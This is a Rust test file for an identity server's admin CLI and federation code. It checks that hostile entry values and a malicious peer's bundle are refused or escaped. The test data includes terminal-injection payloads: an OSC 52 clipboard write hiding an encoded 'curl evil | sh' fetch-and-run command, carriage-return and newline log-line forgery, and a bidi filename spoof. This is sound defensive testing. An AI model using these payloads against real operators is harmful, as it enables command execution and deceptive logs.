//! What less-trusted parties can put in front of an operator: values a narrower admin
//! (or anything that writes entries) stored, shown by `ztid-server entry list`, and what
//! a federation peer's bundle endpoint answers, quoted in the refusal, the relationship's
//! last error and the server's log. A control character is refused where it has no use
//! (an entry's hint and selectors), changing nothing; what may be stored (bidi and
//! zero-width characters, part of real labels in other scripts) and what a peer sent are
//! shown escaped in text output and logs, while `--output json` keeps them exact.

use std::sync::Arc;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tonic::transport::Channel;
use tonic::Code;
use ztid_proto::admin::admin_client::AdminClient;
use ztid_proto::node as pb;
use ztid_tests::*;

const TD: &str = "example.org";
/// A parent that is a node alias named before any agent joins it (accepted as a parent).
const PARENT: &str = "spiffe://example.org/nodes/edge";

async fn admin_socket(server: &Server) -> AdminClient<Channel> {
    AdminClient::new(
        ztid_proto::transport::unix_channel(server.admin_socket())
            .await
            .expect("admin socket"),
    )
}

fn entry(hint: &str, kind: &str, value: &str) -> pb::Entry {
    pb::Entry {
        spiffe_id: "spiffe://example.org/w".into(),
        parent_id: PARENT.into(),
        selectors: vec![pb::Selector {
            r#type: kind.into(),
            value: value.into(),
        }],
        hint: hint.into(),
        ..Default::default()
    }
}

/// Terminal controls, line forgery and bidi characters that must never reach a terminal
/// raw (tabs and line ends are the output's own).
fn raw_controls(text: &str) -> Vec<char> {
    text.chars()
        .filter(|c| {
            (c.is_control() && !matches!(c, '\n' | '\t')) || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}'..='\u{200f}')
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_entry_values_are_refused_or_listed_escaped() {
    let server = Server::start(TD);
    let mut admin = admin_socket(&server).await;

    // OSC 52 (write the reader's clipboard), CR overwriting, a forged line, C1 CSI.
    let osc52 = "ok\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07";
    for (hint, kind, value, what) in [
        (osc52, "unix", "uid:1", "hint"),
        (
            "",
            "unix",
            "path:/usr/bin/app\rSelector      : unix:uid:0",
            "selector",
        ),
        (
            "",
            "container",
            "label:app:x\nSelector      : unix:uid:0",
            "selector",
        ),
        ("", "container", "image:repo\u{9b}2J", "selector"),
    ] {
        let r = admin.create_entry(entry(hint, kind, value)).await;
        match r {
            Err(s) => {
                assert_eq!(
                    s.code(),
                    Code::InvalidArgument,
                    "{what} {value:?}: {}",
                    s.message()
                );
                assert!(
                    s.message()
                        .starts_with(&format!("{what} holds a control character (")),
                    "{what} {value:?}: {}",
                    s.message()
                );
                assert!(raw_controls(s.message()).is_empty(), "{:?}", s.message());
            }
            Ok(e) => panic!("{what} {value:?} was stored: {e:?}"),
        }
    }
    // The CLI says the same in one escaped line, and nothing was stored.
    let r = server.cli(&[
        "entry",
        "create",
        "--spiffe-id",
        "spiffe://example.org/w",
        "--parent-id",
        PARENT,
        "--selector",
        "unix:uid:1",
        "--hint",
        osc52,
    ]);
    assert!(!r.ok, "stored: {}", r.stdout);
    assert!(
        r.stderr.contains(r"hint holds a control character (\x1b)"),
        "{:?}",
        r.stderr
    );
    assert_eq!(r.stderr.trim_end().lines().count(), 1, "{:?}", r.stderr);
    assert!(raw_controls(&r.stderr).is_empty(), "{:?}", r.stderr);
    assert_eq!(server.cli_ok(&["entry", "list", "--output", "json"]), "[]");

    // Bidi and zero-width characters may be part of a real label: stored as given.
    let hint = "invoice\u{202e}fdp.exe";
    let label = "label:owner:\u{2066}admin\u{2069}\u{200b}";
    let id = server.cli_ok(&[
        "entry",
        "create",
        "--spiffe-id",
        "spiffe://example.org/w",
        "--parent-id",
        PARENT,
        "--selector",
        &format!("container:{label}"),
        "--hint",
        hint,
    ]);
    let text = server.cli_ok(&["entry", "list"]);
    assert!(
        raw_controls(&text).is_empty(),
        "raw in the listing: {text:?}"
    );
    assert!(
        text.contains(r"Hint          : invoice\u{202e}fdp.exe"),
        "{text}"
    );
    assert!(
        text.contains(r"Selector      : container:label:owner:\u{2066}admin\u{2069}\u{200b}"),
        "{text}"
    );
    let shown = server.cli_ok(&["entry", "show", &id]);
    assert!(raw_controls(&shown).is_empty(), "{shown:?}");
    // JSON stays JSON, and exact.
    let json: serde_json::Value =
        serde_json::from_str(&server.cli_ok(&["entry", "list", "--output", "json"]))
            .expect("entry list JSON");
    assert_eq!(json[0]["hint"], hint);
    assert_eq!(json[0]["selectors"][0], format!("container:{label}"));
}

/// A web PKI root and a leaf for 127.0.0.1 under it: (root PEM path, leaf cert, leaf key DER).
fn web_pki(dir: &std::path::Path) -> (String, Vec<u8>, Vec<u8>) {
    let ca_key = rcgen::KeyPair::generate().unwrap();
    let mut p = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    p.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    p.distinguished_name
        .push(rcgen::DnType::CommonName, "peer web CA");
    let ca = p.self_signed(&ca_key).unwrap();
    let leaf_key = rcgen::KeyPair::generate().unwrap();
    let mut lp = rcgen::CertificateParams::new(vec!["127.0.0.1".to_string()]).unwrap();
    lp.subject_alt_names = vec![rcgen::SanType::IpAddress("127.0.0.1".parse().unwrap())];
    let leaf = lp
        .signed_by(&leaf_key, &rcgen::Issuer::from_params(&p, &ca_key))
        .unwrap();
    let root = dir.join("peer-web-ca.pem");
    std::fs::write(&root, ca.pem()).unwrap();
    (
        root.display().to_string(),
        leaf.der().to_vec(),
        leaf_key.serialize_der(),
    )
}

/// A federation peer's bundle endpoint (https_web) answering every GET with `body`.
async fn hostile_bundle_endpoint(cert: Vec<u8>, key: Vec<u8>, body: String) -> u16 {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = rustls::ServerConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(
            vec![rustls_pki_types::CertificateDer::from(cert)],
            rustls_pki_types::PrivateKeyDer::Pkcs8(key.into()),
        )
        .unwrap();
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        while let Ok((tcp, _)) = listener.accept().await {
            let (acceptor, body) = (acceptor.clone(), body.clone());
            tokio::spawn(async move {
                let Ok(mut tls) = acceptor.accept(tcp).await else {
                    return;
                };
                // The request head, then the answer.
                let mut got = Vec::new();
                let mut buf = [0u8; 1024];
                while !got.windows(4).any(|w| w == b"\r\n\r\n") {
                    match tls.read(&mut buf).await {
                        Ok(n) if n > 0 => got.extend_from_slice(&buf[..n]),
                        _ => return,
                    }
                }
                let answer = format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = tls.write_all(answer.as_bytes()).await;
                let _ = tls.shutdown().await;
            });
        }
    });
    port
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_federation_peers_answer_reaches_the_operator_escaped() {
    let d = tempfile::tempdir().unwrap();
    let (root, cert, key) = web_pki(d.path());
    // A key id that would write the reader's clipboard (OSC 52), return to the start of
    // the line and forge a log line, in a bundle the server refuses (no curve) and quotes.
    let kid = "k\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\r\n2026-12-05T00:00:00Z  INFO ztid: refreshed";
    let body =
        serde_json::json!({"keys": [{"use": "jwt-svid", "kty": "EC", "kid": kid}]}).to_string();
    let port = hostile_bundle_endpoint(cert, key, body).await;
    let server = Server::start_with(TD, &["--federation-web-roots", &root]);
    server.cli_ok(&[
        "federation",
        "create",
        "--trust-domain",
        "peer.test",
        "--bundle-endpoint-url",
        &format!("https://127.0.0.1:{port}/"),
        "--profile",
        "https_web",
    ]);

    // The refusal: one line, escaped.
    let r = server.cli(&["federation", "refresh", "peer.test"]);
    assert!(!r.ok, "the bundle was accepted: {}", r.stdout);
    assert!(
        r.stderr.contains(r"malformed jwt-svid key k\x1b]52;c;"),
        "{:?}",
        r.stderr
    );
    assert_eq!(r.stderr.trim_end().lines().count(), 1, "{:?}", r.stderr);
    assert!(raw_controls(&r.stderr).is_empty(), "{:?}", r.stderr);

    // The relationship's last error: escaped in text, exact in JSON.
    let text = server.cli_ok(&["federation", "list"]);
    assert_eq!(text.lines().count(), 1, "{text:?}");
    assert!(raw_controls(&text).is_empty(), "{text:?}");
    assert!(text.contains(r"\x07\r\n2026-12-05T00:00:00Z"), "{text}");
    let json: serde_json::Value =
        serde_json::from_str(&server.cli_ok(&["federation", "list", "--output", "json"]))
            .expect("federation list JSON");
    let last_error = json["federations"][0]["last_error"].as_str().unwrap();
    assert!(
        last_error.ends_with(&format!("malformed jwt-svid key {kid}")),
        "{last_error:?}"
    );

    // The server's log quotes it escaped: no forged line, no terminal control.
    let log = server.log_text();
    assert!(log.contains(r"k\x1b]52;c;"), "the refusal is logged: {log}");
    assert!(raw_controls(&log).is_empty(), "raw in the log: {log:?}");
    assert!(
        !log.lines().any(|l| l.starts_with("2026-12-05T00:00:00Z")),
        "a forged log line: {log}"
    );
}

/// Runs `bin ARGS` with its standard output a pipe whose reader is already gone, as
/// `… | head` leaves it once `head` has read enough: (exit status, stderr).
fn with_closed_stdout(bin: &std::path::Path, args: &[&str]) -> (Option<i32>, String) {
    let (reader, writer) = std::io::pipe().expect("pipe");
    drop(reader);
    let out = std::process::Command::new(bin)
        .args(args)
        .stdout(writer)
        .output()
        .expect("run the CLI");
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// `ztid-server entry list | head` and `ztid-agent completions bash | head`: the CLIs
/// end quietly with status 141 (as a tool killed by SIGPIPE) when their reader closes the
/// pipe, instead of panicking with a backtrace (found by the rev-blackbox review).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_closed_standard_output_ends_the_cli_quietly() {
    let server = Server::start(TD);
    let mut admin = admin_socket(&server).await;
    admin
        .create_entry(entry("", "unix", "uid:1"))
        .await
        .expect("entry created");
    let socket = server.admin_socket().display().to_string();
    for (bin, args) in [
        (
            bin("ztid-server"),
            vec!["--admin-socket", socket.as_str(), "entry", "list"],
        ),
        (bin("ztid-agent"), vec!["completions", "bash"]),
    ] {
        let (status, stderr) = with_closed_stdout(&bin, &args);
        assert_eq!(status, Some(141), "{args:?}: {stderr}");
        assert!(stderr.is_empty(), "{args:?} wrote to stderr: {stderr}");
    }
}
